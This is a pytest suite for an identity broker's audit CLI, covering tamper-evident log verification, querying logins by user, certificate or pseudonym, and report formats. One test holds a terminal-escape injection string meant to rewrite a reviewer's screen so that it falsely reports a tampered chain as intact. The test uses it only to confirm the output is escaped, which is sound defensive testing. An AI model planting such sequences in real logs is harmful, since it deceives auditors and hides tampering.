"""`broker audit verify|query|report|pseudonym|keygen` (docs/audit.md, "Reviewer tools"), run through click.

The data is real: events written by an AuditTrail into the example configuration's audit directory, with
its signing key and pseudonym key, over three days; one test also logs Bo in through the app.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import stat
from collections.abc import Iterator
from dataclasses import dataclass, replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey

import broker.audit.query as audit_query
import broker.commands.audit as audit_command
from broker.app import create_app
from broker.audit.chain import ChainSettings, ChainWriter
from broker.audit.events import AuditEvent
from broker.audit.keys import AuditSigner, key_id, public_pem
from broker.audit.trail import AuditTrail, Pseudonymiser
from broker.cli import main
from broker.clock import FixedClock
from broker.config.loader import load_settings
from broker.config.schema import AuditConfig
from broker.model import Identity
from broker.session.store import RedisStore
from tests.factories.audit import FACTS, dump, lines_of, make_trail, make_writer, only_chain, records_of, write_lines
from tests.factories.saml import BASE_URL, Browser, make_sp, saml_response_form
from tests.factories.sp_files import register_sp

BO_PNR = "191212121212"
ANNA = Identity("hsa_id", "SE2120001009-anna", "kommun-a")
BO = Identity("personnummer", BO_PNR, "kommun-b")
SP_A = "https://sp-a.example/metadata"
SP_B = "https://sp-b.example/metadata"
DAY1 = dt.datetime(2026, 11, 24, 8, 0, tzinfo=dt.UTC)
DAY2 = DAY1 + dt.timedelta(days=1)
DAY3 = DAY1 + dt.timedelta(days=2)
COLUMNS = ["time", "event", "outcome", "reason", "municipality", "user", "sp", "cert_issuer", "cert_serial", "loa",
           "correlation_id", "client", "detail", "chain", "seq"]


def run(*args: str, input: str | None = None) -> Result:
    return CliRunner().invoke(main, ["audit", *args], input=input)


@dataclass
class Dataset:
    config: Path
    directory: Path
    chain: str
    file: Path
    public: Path
    bo: str           # Bo's pseudonym under the configuration's key


REFERENCE = "3F9A-C21B-77D0-1E2F"  # the refused login's reference, as its page shows it


def _events() -> list[tuple[dt.datetime, AuditEvent]]:
    def at(day: dt.datetime, minutes: int) -> dt.datetime:
        return day + dt.timedelta(minutes=minutes)

    def login(day: dt.datetime, minute: int, cid: str, who: Identity, sp: str) -> list[tuple[dt.datetime, AuditEvent]]:
        return [
            (at(day, minute), AuditEvent("login_started", "info", cid, sp=sp, client_address="192.0.2.7",
                                         data={"binding": "redirect"})),
            (at(day, minute), AuditEvent("certificate_accepted", "success", cid, identity=who, certificate=FACTS,
                                         sp=sp, client_address="192.0.2.7",
                                         data={"loa": "loa3", "policy": "2.999.1.3"})),
            (at(day, minute + 1), AuditEvent("assertion_issued", "success", cid, identity=who, sp=sp,
                                             client_address="192.0.2.7",
                                             data={"loa": "loa3", "nameid": "n", "nameid_format": "persistent",
                                                   "attributes": ("givenName",), "session": "new"})),
        ]

    return [
        *login(DAY1, 0, "A1", ANNA, SP_A),
        *login(DAY1, 10, "B1", BO, SP_B),
        (at(DAY1, 20), AuditEvent("certificate_rejected", "failure", "D1", reason="certificate_expired",
                                  municipality="kommun-a", client_address="192.0.2.8",
                                  detail="expired, with a comma")),
        *login(DAY2, 0, "B2", BO, SP_A),
        (at(DAY2, 30), AuditEvent("login_refused", "failure", REFERENCE, reason="certificate_missing",
                                  client_address="192.0.2.9")),
        *login(DAY3, 0, "A2", ANNA, SP_B),
        (at(DAY3, 40), AuditEvent("certificate_rejected", "failure", "G1", reason="revoked", municipality="kommun-b",
                                  client_address="192.0.2.10")),
    ]


def chain_of(audit: AuditConfig, clock: FixedClock, instance: str) -> tuple[ChainWriter, AuditTrail]:
    """A chain written with the configuration's own keys as instance ``instance`` writes it (the caller closes
    the writer)."""
    writer = ChainWriter(ChainSettings(audit.directory.path, instance, dt.timedelta(hours=1), 1 << 30,
                                       dt.timedelta(days=30)), AuditSigner(audit.signing_key.key), clock,
                         background=False)
    return writer, AuditTrail(writer, clock, pseudonym_key=audit.pseudonym_key.value, instance_id=instance)


@pytest.fixture
def data(config_dir: Path, tmp_path: Path) -> Dataset:
    """Three days of logins written with the configuration's own keys, as the app would."""
    audit = load_settings(config_dir).broker.audit
    clock = FixedClock(DAY1)
    writer, trail = chain_of(audit, clock, "cli")
    for when, event in _events():
        clock.set(when)
        trail.record(event)
        trail.sync()
    writer.close()
    chain, (file,) = only_chain(audit.directory.path)
    public = tmp_path / "audit-signing.pub"
    public.write_bytes(public_pem(audit.signing_key.key.public_key()))
    return Dataset(config_dir, audit.directory.path, chain, file, public,
                   Pseudonymiser(audit.pseudonym_key.value).personnummer(BO_PNR))


# --- verify ---------------------------------------------------------------------------------------------


def test_verify_intact_exits_0(data: Dataset) -> None:
    result = run("verify", str(data.directory), "--key", str(data.public))
    assert result.exit_code == 0, result.output
    total = len(lines_of(data.file))
    checkpoints = sum(r["event"] == "audit_checkpoint" for r in records_of(data.file))
    assert result.stdout == (f"{data.chain}: intact; {total} records in 1 file(s), {checkpoints} checkpoint(s), "
                             f"sealed up to seq {total}, closed\n")
    assert "FIRST PROBLEM" not in result.output


def test_verify_with_the_configuration_finds_directory_and_key(data: Dataset) -> None:
    result = run("verify", "--config", str(data.config))
    assert result.exit_code == 0, result.output
    assert f"{data.chain}: intact" in result.stdout


def test_verify_tampered_exits_1_naming_the_first_problem(data: Dataset) -> None:
    lines = lines_of(data.file)
    record = json.loads(lines[5])
    record["outcome"] = "failure"
    lines[5] = dump(record)
    write_lines(data.file, lines)
    result = run("verify", str(data.directory), "--key", str(data.public))
    assert result.exit_code == 1
    assert f"{data.chain}: NOT INTACT" in result.stdout
    # which event the line holds (as it reads now), not only where: a reviewer need not open the file to know
    assert (f"FIRST PROBLEM: {data.file}:6 (seq {record['seq']}, {record['event']} of {record['time']}, reference "
            f"{record['correlation_id']}): modified: its hash differs from what the next record (seq "
            f"{record['seq'] + 1}) recorded\n") in result.stderr


def test_verify_counts_of_a_chain_not_intact_say_they_stop_at_its_problem(data: Dataset) -> None:
    """A chain whose first lines were deleted read "NOT INTACT; 0 records in 1 file(s), 0 checkpoint(s), sealed up
    to seq 0": the walk stops at the first problem, and its counts read as what the chain holds."""
    lines = lines_of(data.file)
    write_lines(data.file, lines[1:])  # the chain's start record goes
    result = run("verify", str(data.directory), "--key", str(data.public))
    assert result.exit_code == 1
    assert result.stdout.splitlines()[0] == (f"{data.chain}: NOT INTACT; 1 file(s), read up to its first problem: "
                                             "0 record(s) verify, 0 checkpoint(s), sealed up to seq 0")


def test_verify_names_the_problem_of_every_chain_not_intact(data: Dataset) -> None:

    """Two chains tampered with: the second was listed as NOT INTACT without a word of why (only the first
    problem of all was named)."""
    audit = load_settings(data.config).broker.audit
    clock = FixedClock(DAY3)
    other, trail = chain_of(audit, clock, "cli2")
    trail.record(AuditEvent("login_started", "info", "Z1", sp=SP_A, client_address="192.0.2.7"))
    trail.sync()
    other.close()
    problems = {}
    for name in sorted(p.name for p in data.directory.glob("*.000001.jsonl")):
        path = data.directory / name
        lines = lines_of(path)
        gone, after = json.loads(lines[1]), json.loads(lines[2])
        lines[1:2] = []  # the record after the start goes
        write_lines(path, lines)
        problems[name.removesuffix(".000001.jsonl")] = (
            f"{path}:2 (seq 3, {after['event']} of {after['time']}, reference {after['correlation_id']}): missing: "
            f"record(s) 2 are missing before this one (written between {json.loads(lines[0])['time']} and "
            f"{after['time']})")
        assert gone["seq"] == 2
    result = run("verify", str(data.directory), "--key", str(data.public))
    assert result.exit_code == 1
    for chain, problem in problems.items():
        assert f"{chain}: NOT INTACT" in result.stdout
        assert f"  problem: {problem}\n" in result.stdout
    assert len(problems) == 2



def _sign_with_a_key_named(data: Dataset, name: str) -> None:
    lines = lines_of(data.file)
    record = json.loads(lines[1])  # the start's checkpoint
    record["data"]["key_id"] = name
    lines[1] = dump(record)
    write_lines(data.file, lines)


def _record_an_end_named(data: Dataset, name: str) -> None:
    marker = data.directory / f"{data.chain}.closed"
    marker.write_text(json.dumps({"seq": len(lines_of(data.file)), "hash": name}) + "\n")


# what an intruder may write into a file to rewrite the reviewer's terminal: back a line, clear it, and claim the
# chain intact; a right-to-left override turns the text after it around
DECEPTIVE = "\x1b[1A\x1b[2K\rcli: intact\x07\u202e"


@pytest.mark.parametrize("tamper", [pytest.param(_sign_with_a_key_named, id="checkpoint-key-id"),
                                    pytest.param(_record_an_end_named, id="closed-marker-hash")])
def test_verify_shows_what_a_tampered_file_says_without_its_control_characters(data: Dataset, tamper: Any) -> None:
    """The text of a problem quotes what the files say (a key id, a hash): control characters an intruder put
    there went to the reviewer's terminal as they were, and could move the cursor and overwrite the report."""
    tamper(data, DECEPTIVE)
    result = run("verify", str(data.directory), "--key", str(data.public))
    assert result.exit_code == 1
    shown = "\\x1b[1A\\x1b[2K\\rcli: intact\\x07\\u202e"
    assert shown in result.stdout
    assert shown in result.stderr
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e]", result.stdout + result.stderr)
    report = json.loads(run("verify", str(data.directory), "--key", str(data.public), "--json").stdout)
    assert DECEPTIVE in report["first_problem"]["detail"]  # JSON escapes them itself: the text as it was

def test_verify_json(data: Dataset) -> None:
    lines = lines_of(data.file)
    write_lines(data.file, lines[:7] + lines[8:])  # seq 8 deleted
    result = run("verify", str(data.directory), "--key", str(data.public), "--json")
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    assert report["intact"] is False
    before, after = json.loads(lines[6]), json.loads(lines[8])
    # when the records that are gone were written (between the times of those around the gap), and what the line
    # the problem names holds
    assert report["first_problem"] == {
        "file": str(data.file), "line": 8, "seq": 9, "what": "missing",
        "detail": f"record(s) 8 are missing before this one (written between {before['time']} and {after['time']})",
        "record": f"{after['event']} of {after['time']}, reference {after['correlation_id']}"}
    (chain,) = report["chains"]
    assert chain["chain"] == data.chain
    assert chain["files"] == [str(data.file)]
    assert chain["records"] == chain["last_seq"] == 7
    assert chain["problems"] == [report["first_problem"]]
    assert chain["key_ids"] == [key_id(load_public(data.public))]
    assert set(chain) == {"chain", "files", "records", "last_seq", "checkpoints", "sealed_seq", "closed", "key_ids",
                          "warnings", "problems"}


def test_verify_json_intact(data: Dataset) -> None:
    result = run("verify", str(data.directory), "--key", str(data.public), "--json")
    assert result.exit_code == 0
    report = json.loads(result.stdout)
    assert report["intact"] is True
    assert report["first_problem"] is None
    assert report["chains"][0]["closed"] is True
    assert report["chains"][0]["sealed_seq"] == len(lines_of(data.file))


def test_verify_without_a_key_exits_2(data: Dataset) -> None:
    result = run("verify", str(data.directory))
    assert result.exit_code == 2
    assert "no verification key" in result.stderr


def test_verify_without_chains_exits_2(data: Dataset, tmp_path: Path) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    result = run("verify", str(empty), "--key", str(data.public))
    assert result.exit_code == 2
    assert "no audit chains found" in result.stderr


def test_verify_with_an_unreadable_key_file_exits_2(data: Dataset, tmp_path: Path) -> None:
    bad = tmp_path / "bad.pem"
    bad.write_text("not a key\n")
    result = run("verify", str(data.directory), "--key", str(bad))
    assert result.exit_code == 2


def load_public(path: Path) -> Ed25519PublicKey:
    key = serialization.load_pem_public_key(path.read_bytes())
    assert isinstance(key, Ed25519PublicKey)
    return key


# --- query ---------------------------------------------------------------------------------------------------


def query_jsonl(*args: str, input: str | None = None) -> list[dict[str, Any]]:
    result = run("query", *args, "--format", "jsonl", input=input)
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.stdout.splitlines()]


def cids(found: list[dict[str, Any]]) -> list[tuple[str, str]]:
    return [(r["correlation_id"], r["event"]) for r in found]


@pytest.mark.parametrize(("args", "expected"), [
    pytest.param(["--user", "SE2120001009-anna", "--event", "assertion_issued"], [("A1", "assertion_issued"),
                                                                                 ("A2", "assertion_issued")],
                 id="user"),
    pytest.param(["--municipality", "kommun-b", "--outcome", "failure"], [("G1", "certificate_rejected")],
                 id="municipality"),
    pytest.param(["--sp", SP_A, "--event", "assertion_issued"], [("A1", "assertion_issued"),
                                                                 ("B2", "assertion_issued")], id="sp"),
    pytest.param(["--outcome", "failure"], [("D1", "certificate_rejected"), (REFERENCE, "login_refused"),
                                            ("G1", "certificate_rejected")], id="outcome"),
    pytest.param(["--reason", "revoked"], [("G1", "certificate_rejected")], id="reason"),
    pytest.param(["--event", "login_refused", "--event", "certificate_rejected"],
                 [("D1", "certificate_rejected"), (REFERENCE, "login_refused"), ("G1", "certificate_rejected")],
                 id="events"),
    pytest.param(["--correlation-id", "B2"], [("B2", "login_started"), ("B2", "certificate_accepted"),
                                              ("B2", "assertion_issued")], id="correlation-id"),
    pytest.param(["--since", "2026-11-25T00:00:00Z", "--until", "2026-11-26T00:00:00Z"],
                 [("B2", "login_started"), ("B2", "certificate_accepted"), ("B2", "assertion_issued"),
                  (REFERENCE, "login_refused")], id="time-range"),
    pytest.param(["--since", "2026-11-26T08:40:00Z"], [("G1", "certificate_rejected")], id="since-inclusive"),
    # a date, or a time without an offset, is UTC like the records' times (it failed comparing naive and aware)
    pytest.param(["--since", "2026-11-25", "--until", "2026-11-26"],
                 [("B2", "login_started"), ("B2", "certificate_accepted"), ("B2", "assertion_issued"),
                  (REFERENCE, "login_refused")], id="dates"),
    pytest.param(["--since", "2026-11-26T08:40:00"], [("G1", "certificate_rejected")], id="time-without-offset"),
    pytest.param(["--until", "2026-11-24T08:00:00Z"], [], id="until-exclusive"),
    pytest.param(["--user", "SE2120001009-anna", "--sp", SP_B, "--outcome", "success"],
                 [("A2", "certificate_accepted"), ("A2", "assertion_issued")], id="criteria-combine"),
])
def test_query_filters(data: Dataset, args: list[str], expected: list[tuple[str, str]]) -> None:
    assert cids(query_jsonl(str(data.directory), *args)) == expected


def test_query_leaves_out_the_chains_own_records_unless_asked(data: Dataset) -> None:
    events = {r["event"] for r in query_jsonl(str(data.directory))}
    assert not events & {"audit_chain_started", "audit_checkpoint"}
    with_system = {r["event"] for r in query_jsonl(str(data.directory), "--system")}
    assert {"audit_chain_started", "audit_checkpoint"} <= with_system


@pytest.mark.parametrize("typed", [REFERENCE, REFERENCE.lower(), REFERENCE.replace("-", " "),
                                   REFERENCE.replace("-", ""), f" {REFERENCE.lower()} "],
                         ids=["as-shown", "lower-case", "spaces", "no-dashes", "padded"])
def test_query_finds_a_reference_however_it_was_typed(data: Dataset, typed: str) -> None:
    """A reference read out over the phone arrives in many forms; each finds the refused login."""
    assert cids(query_jsonl(str(data.directory), "--correlation-id", typed)) == [(REFERENCE, "login_refused")]


def test_query_gives_the_events_of_chains_written_side_by_side_in_time_order(data: Dataset) -> None:
    """Several broker processes (gunicorn workers, instances) write at once, each its own chain, and any of them
    serves any step of a login: the events came chain by chain, a login's steps out of order."""
    audit = load_settings(data.config).broker.audit
    clock = FixedClock(DAY1 + dt.timedelta(minutes=15))
    writer, trail = chain_of(audit, clock, "cli2")
    for cid, when in (("Z2", DAY1 + dt.timedelta(minutes=15)), ("Z1", DAY2 + dt.timedelta(minutes=5))):
        clock.set(when)
        trail.record(AuditEvent("login_refused", "failure", cid, reason="certificate_missing",
                                client_address="192.0.2.11"))
        trail.sync()
    writer.close()
    found = query_jsonl(str(data.directory), "--outcome", "failure")
    assert [r["correlation_id"] for r in found] == ["Z2", "D1", "Z1", REFERENCE, "G1"]


def test_query_jsonl_gives_the_records_as_written(data: Dataset) -> None:
    found = query_jsonl(str(data.directory), "--correlation-id", "D1")
    assert found == [r for r in records_of(data.file) if r.get("correlation_id") == "D1"]
    # byte for byte the chain file's lines (docs/audit.md: an exported record's SHA-256 is the next record's prev)
    result = run("query", str(data.directory), "--system", "--format", "jsonl")
    assert result.stdout.encode() == data.file.read_bytes()


def test_query_whole_logins_gives_every_event_of_the_users_logins(data: Dataset) -> None:
    """The evidence of a case: a user's logins in a period, each whole. The events before the user was known
    (login_started: the service's request, from which address) name no user, and --user left them out."""
    args = (str(data.directory), "--user", "SE2120001009-anna", "--since", "2026-11-24", "--until", "2026-11-27")
    assert cids(query_jsonl(*args)) == [("A1", "certificate_accepted"), ("A1", "assertion_issued"),
                                        ("A2", "certificate_accepted"), ("A2", "assertion_issued")]
    assert cids(query_jsonl(*args, "--whole-logins")) == [
        ("A1", "login_started"), ("A1", "certificate_accepted"), ("A1", "assertion_issued"),
        ("A2", "login_started"), ("A2", "certificate_accepted"), ("A2", "assertion_issued")]


def shared_pc_login(config_dir: Path) -> str:
    """Anna logs in on the PC where Bo's session was: her login's events record that Bo's session was replaced
    (session_replaced names Bo). The audit directory."""
    audit = load_settings(config_dir).broker.audit
    clock = FixedClock(DAY1)
    writer, trail = chain_of(audit, clock, "cli")
    for event in [
            AuditEvent("login_started", "info", "R1", sp=SP_A, client_address="192.0.2.7"),
            AuditEvent("certificate_presented", "info", "R1", certificate=FACTS, sp=SP_A, client_address="192.0.2.7",
                       data={"via": "tls"}),
            AuditEvent("session_replaced", "info", "R1", identity=BO, client_address="192.0.2.7",
                       data={"session_login": "B0", "services": [SP_B]}),
            AuditEvent("certificate_accepted", "success", "R1", identity=ANNA, certificate=FACTS, sp=SP_A,
                       client_address="192.0.2.7", data={"loa": "loa3", "policy": "2.999.1.3"})]:
        trail.record(event)
        trail.sync()
    writer.close()
    return str(audit.directory.path)


def test_query_whole_logins_leaves_out_a_login_that_names_another_user(config_dir: Path) -> None:
    """Bo's case holds the record that his session was replaced, but not Anna's login (her request, her
    certificate); Anna's holds her login, but not the record about Bo."""
    directory = shared_pc_login(config_dir)
    assert cids(query_jsonl(directory, "--personnummer-stdin", "--config", str(config_dir), "--whole-logins",
                            input=BO_PNR + "\n")) == [("R1", "session_replaced")]
    assert cids(query_jsonl(directory, "--user", "SE2120001009-anna", "--whole-logins")) == [
        ("R1", "login_started"), ("R1", "certificate_presented"), ("R1", "certificate_accepted")]


@pytest.mark.parametrize("args", [
    pytest.param(["--cert-serial", "00:1F"], id="by-certificate"),
    pytest.param(["--event", "login_started"], id="by-event"),
])
def test_query_whole_logins_without_a_user_leaves_out_the_earlier_sessions_user(config_dir: Path,
                                                                                 args: list[str]) -> None:
    """Asked for no user (every use of Anna's card; the logins of a service): Anna's login is given whole, but the
    record about Bo's session, which her login replaced, names no user of her login, and is left out; it was
    added, putting Bo in the evidence of Anna's card."""
    directory = shared_pc_login(config_dir)
    assert cids(query_jsonl(directory, *args, "--whole-logins")) == [
        ("R1", "login_started"), ("R1", "certificate_presented"), ("R1", "certificate_accepted")]


def test_query_whole_logins_without_a_user_keeps_the_earlier_session_of_the_logins_own_user(config_dir: Path) -> None:
    """Anna's session did not do for the SP (session_insufficient names her) and she logged in again: asked for
    her card, that record is her login's as well."""
    audit = load_settings(config_dir).broker.audit
    clock = FixedClock(DAY1)
    writer, trail = chain_of(audit, clock, "cli")
    for event in [
            AuditEvent("login_started", "info", "S1", sp=SP_A, client_address="192.0.2.7"),
            AuditEvent("session_insufficient", "info", "S1", reason="loa_insufficient", identity=ANNA, sp=SP_A,
                       client_address="192.0.2.7", data={"session_login": "A0", "loa": "loa2"}),
            AuditEvent("certificate_accepted", "success", "S1", identity=ANNA, certificate=FACTS, sp=SP_A,
                       client_address="192.0.2.7", data={"loa": "loa3", "policy": "2.999.1.3"})]:
        trail.record(event)
        trail.sync()
    writer.close()
    assert cids(query_jsonl(str(audit.directory.path), "--cert-serial", "1f", "--whole-logins")) == [
        ("S1", "login_started"), ("S1", "session_insufficient"), ("S1", "certificate_accepted")]


def test_query_whole_logins_names_an_unreadable_file_once(data: Dataset) -> None:
    """--whole-logins reads the trail twice (the logins, then their events): a file that cannot be read is still
    named once, as without it; it was named twice, as if two files were missing."""
    unreadable = data.directory / "zz.20261124T000000000Z.aaaaaa.000001.jsonl"
    unreadable.mkdir()
    result = run("query", str(data.directory), "--user", "SE2120001009-anna", "--whole-logins")
    assert result.exit_code == 0, result.output
    assert result.stderr.count(f"skipped {unreadable}") == 1


def test_query_by_pseudonym(data: Dataset) -> None:
    found = query_jsonl(str(data.directory), "--user", data.bo, "--event", "assertion_issued")
    assert cids(found) == [("B1", "assertion_issued"), ("B2", "assertion_issued")]


def test_query_personnummer_from_stdin_finds_bos_events(data: Dataset) -> None:
    found = query_jsonl(str(data.directory), "--config", str(data.config), "--personnummer-stdin",
                        input=BO_PNR + "\n")
    assert cids(found) == [("B1", "certificate_accepted"), ("B1", "assertion_issued"),
                           ("B2", "certificate_accepted"), ("B2", "assertion_issued")]
    assert {r["user"] for r in found} == {data.bo}


def test_query_personnummer_from_stdin_with_the_key_file_finds_bos_events(data: Dataset, tmp_path: Path) -> None:
    """Without --config the error told the reviewer to give --key-file, which query did not take."""
    key_file = tmp_path / "pseudonym.key"
    key_file.write_bytes(load_settings(data.config).broker.audit.pseudonym_key.value)
    found = query_jsonl(str(data.directory), "--key-file", str(key_file), "--personnummer-stdin",
                        input=BO_PNR + "\n")
    assert cids(found) == [("B1", "certificate_accepted"), ("B1", "assertion_issued"),
                           ("B2", "certificate_accepted"), ("B2", "assertion_issued")]
    assert {r["user"] for r in found} == {data.bo}
    without = run("query", str(data.directory), "--personnummer-stdin", input=BO_PNR + "\n")
    assert without.exit_code == 2
    assert "the pseudonym key is needed: --config DIR or --key-file F" in without.output


def test_query_personnummer_from_stdin_finds_the_events_written_under_an_earlier_pseudonym_key(
        data: Dataset, tmp_path: Path) -> None:
    """audit.pseudonym_key changed (docs/audit.md, Privacy): Bo's earlier records keep the pseudonym they were
    written with. --config alone finds those under the key in force; each earlier key given with --key-file finds
    its own as well, so that a systematic check of one person's logins spans the change."""
    audit = load_settings(data.config).broker.audit
    earlier = tmp_path / "pseudonym-2025.key"
    earlier.write_bytes(b"an earlier pseudonym key of 32 bytes or more, long retired\n")
    earlier_trail = Pseudonymiser(earlier.read_bytes().strip())
    writer = ChainWriter(ChainSettings(audit.directory.path, "before", dt.timedelta(hours=1), 1 << 30,
                                       dt.timedelta(days=30)), AuditSigner(audit.signing_key.key),
                         FixedClock(DAY1 - dt.timedelta(days=1)), background=False)
    trail = AuditTrail(writer, FixedClock(DAY1 - dt.timedelta(days=1)), pseudonym_key=earlier.read_bytes().strip(),
                       instance_id="before")
    trail.record(AuditEvent("assertion_issued", "success", "OLD1", identity=BO, sp=SP_A, client_address="192.0.2.9"))
    trail.sync()
    writer.close()
    old_pseudonym = earlier_trail.personnummer(BO_PNR)
    assert old_pseudonym != data.bo

    current = query_jsonl(str(data.directory), "--config", str(data.config), "--personnummer-stdin",
                          "--event", "assertion_issued", input=BO_PNR + "\n")
    assert cids(current) == [("B1", "assertion_issued"), ("B2", "assertion_issued")]
    both = query_jsonl(str(data.directory), "--config", str(data.config), "--key-file", str(earlier),
                       "--personnummer-stdin", "--event", "assertion_issued", input=BO_PNR + "\n")
    assert cids(both) == [("OLD1", "assertion_issued"), ("B1", "assertion_issued"), ("B2", "assertion_issued")]
    assert [r["user"] for r in both] == [old_pseudonym, data.bo, data.bo]

    printed = run("pseudonym", "--config", str(data.config), "--key-file", str(earlier), input=BO_PNR + "\n")
    assert printed.exit_code == 0, printed.output
    assert printed.stdout.splitlines() == [data.bo, old_pseudonym]  # the configuration's first
    assert BO_PNR not in printed.output


def test_query_personnummer_from_stdin_finds_an_account_named_by_it(data: Dataset) -> None:
    """An opaque identity rule's account named by the personnummer (191212121212@kommun.se) is recorded with the
    number's pseudonym where it stood; the person's events under it are hers too, another's pseudonym is not."""
    audit = load_settings(data.config).broker.audit
    writer, trail = chain_of(audit, FixedClock(DAY3 + dt.timedelta(hours=1)), "accounts")
    account = Identity("opaque", BO_PNR + "@kommun-c.se", "kommun-c")
    other = Identity("opaque", "191212120008@kommun-c.se", "kommun-c")  # another person
    trail.record(AuditEvent("assertion_issued", "success", "O1", identity=account, sp=SP_A))
    trail.record(AuditEvent("assertion_issued", "success", "O2", identity=other, sp=SP_A))
    trail.sync()
    writer.close()
    found = query_jsonl(str(data.directory), "--config", str(data.config), "--personnummer-stdin",
                        "--event", "assertion_issued", input=BO_PNR + "\n")
    assert cids(found) == [("B1", "assertion_issued"), ("B2", "assertion_issued"), ("O1", "assertion_issued")]
    assert [r["user"] for r in found] == [data.bo, data.bo, data.bo + "@kommun-c.se"]
    assert BO_PNR not in "".join(p.read_text() for p in data.directory.rglob("*.jsonl"))


def test_query_takes_a_pseudonym_whose_hex_digits_read_as_a_personnummer(data: Dataset) -> None:
    odd = "pnr:" + BO_PNR + "a" * 20
    result = run("query", str(data.directory), "--user", odd, "--format", "jsonl")
    assert (result.exit_code, result.stdout) == (0, "")


def test_query_csv(data: Dataset) -> None:
    result = run("query", str(data.directory), "--outcome", "failure", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == COLUMNS
    parsed = [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
    assert [(r["correlation_id"], r["reason"], r["municipality"]) for r in parsed] == [
        ("D1", "certificate_expired", "kommun-a"), (REFERENCE, "certificate_missing", ""),
        ("G1", "revoked", "kommun-b")]
    assert parsed[0]["detail"] == "expired, with a comma"  # quoted, not split
    assert parsed[0]["time"] == "2026-11-24T08:20:00.000Z"
    assert parsed[0]["client"] == "192.0.2.8"


def test_query_shows_the_certificate_and_the_level_of_each_login(data: Dataset) -> None:
    """Who logged in, with which certificate (issuer and serial) and at which level: the table and the CSV had
    neither (only jsonl gave them), so a reviewer could not answer that from either."""
    table = run("query", str(data.directory), "--user", "SE2120001009-anna", "--event", "certificate_accepted")
    assert table.exit_code == 0, table.output
    header, *rows = table.stdout.splitlines()
    assert header.split() == ["time", "event", "outcome", "municipality", "user", "sp", "cert_issuer", "cert_serial",
                              "loa", "correlation_id", "client"]
    assert [row.split() for row in rows] == [
        ["2026-11-24T08:00:00.000Z", "certificate_accepted", "success", "kommun-a", "SE2120001009-anna", SP_A,
         "CN=Kommun", "A", "Test", "Person", "CA", "1f", "loa3", "A1", "192.0.2.7"],
        ["2026-11-26T08:00:00.000Z", "certificate_accepted", "success", "kommun-a", "SE2120001009-anna", SP_B,
         "CN=Kommun", "A", "Test", "Person", "CA", "1f", "loa3", "A2", "192.0.2.7"]]
    result = run("query", str(data.directory), "--user", "SE2120001009-anna", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = [dict(zip(COLUMNS, r, strict=True)) for r in list(csv.reader(io.StringIO(result.stdout)))[1:]]
    accepted, issued = rows[0], rows[1]
    assert (accepted["cert_issuer"], accepted["cert_serial"], accepted["loa"]) == (FACTS.issuer, "1f", "loa3")
    assert (issued["event"], issued["loa"]) == ("assertion_issued", "loa3")
    # where each row is in the trail: the chain's file and line are found by chain and seq (`verify` proves them)
    lines = [json.loads(raw) for raw in lines_of(data.file)]
    assert [(r["chain"], int(r["seq"])) for r in rows] == [
        (data.chain, line["seq"]) for line in lines if line.get("user") == "SE2120001009-anna"]


OTHER_CA = "CN=Kommun B Test Person CA"


@pytest.mark.parametrize(("args", "expected"), [
    pytest.param(["--cert-serial", "1f"], ["S1", "S2"], id="serial"),
    pytest.param(["--cert-serial", "00:1F"], ["S1", "S2"], id="serial-as-a-ca-writes-it"),
    pytest.param(["--cert-serial", "1f", "--cert-issuer", OTHER_CA], ["S2"], id="serial-and-issuer"),
    pytest.param(["--cert-issuer", FACTS.issuer], ["S1", "S3"], id="issuer"),
    pytest.param(["--cert-serial", "2a"], ["S3"], id="another-serial"),
    # as a certificate viewer or a CA's notice writes it: a space after each comma, other letter cases
    pytest.param(["--cert-issuer", "cn=kommun b test person ca"], ["S2"], id="issuer-in-other-letters"),
    pytest.param(["--cert-issuer", "CN=Kommun A, O=Kommun A, C=SE"], ["S4"], id="issuer-with-spaces"),
])
def test_query_finds_every_use_of_one_certificate(config_dir: Path, args: list[str], expected: list[str]) -> None:
    """Every login of a certificate since revoked (a stolen card, by the serial and issuer its CA's notice gives):
    there was no way to ask for the events of one certificate."""
    assert [r["correlation_id"] for r in query_jsonl(logins_of_four_cards(config_dir), *args)] == expected


@pytest.mark.parametrize(("args", "warned"), [
    pytest.param(["--cert-serial", "1f"], True, id="serial-alone"),
    pytest.param(["--cert-serial", "1f", "--format", "jsonl"], True, id="serial-alone-jsonl"),
    pytest.param(["--cert-serial", "1f", "--cert-issuer", OTHER_CA], False, id="serial-and-issuer"),
    pytest.param(["--cert-serial", "2a"], False, id="serial-of-one-issuer"),
])
def test_query_by_a_serial_two_cas_issued_says_so(config_dir: Path, args: list[str], warned: bool) -> None:
    """A serial number is one card's only with its issuer (RFC 5280 §4.1.2.2): asked for alone, it found the cards
    of two CAs, two people, as if they were one card's logins, without a word."""
    result = run("query", logins_of_four_cards(config_dir), *args)
    assert result.exit_code == 0, result.output
    warning = (f"--cert-serial: the events found name certificates of 2 issuers with this serial number "
               f"({FACTS.issuer}; {OTHER_CA}), each another card: give --cert-issuer for one")
    assert (warning in result.stderr) is warned


def logins_of_four_cards(config_dir: Path) -> str:
    """Anna's logins with four certificates: 1f of Kommun A's CA (S1) and of Kommun B's (S2), 2a (S3), 3b of a CA
    named with O and C (S4). The audit directory."""
    audit = load_settings(config_dir).broker.audit
    clock = FixedClock(DAY1)
    writer, trail = chain_of(audit, clock, "cli")
    for cid, certificate in [("S1", FACTS), ("S2", replace(FACTS, issuer=OTHER_CA)),
                             ("S3", replace(FACTS, serial_hex="2a")),
                             ("S4", replace(FACTS, serial_hex="3b", issuer="CN=Kommun A,O=Kommun A,C=SE"))]:
        trail.record(AuditEvent("certificate_accepted", "success", cid, identity=ANNA, certificate=certificate,
                                sp=SP_A, client_address="192.0.2.7", data={"loa": "loa3", "policy": "2.999.1.3"}))
        trail.sync()
    writer.close()
    return str(audit.directory.path)


def test_query_refuses_a_serial_that_is_not_hexadecimal(data: Dataset) -> None:
    result = run("query", str(data.directory), "--cert-serial", "1g")
    assert result.exit_code == 2
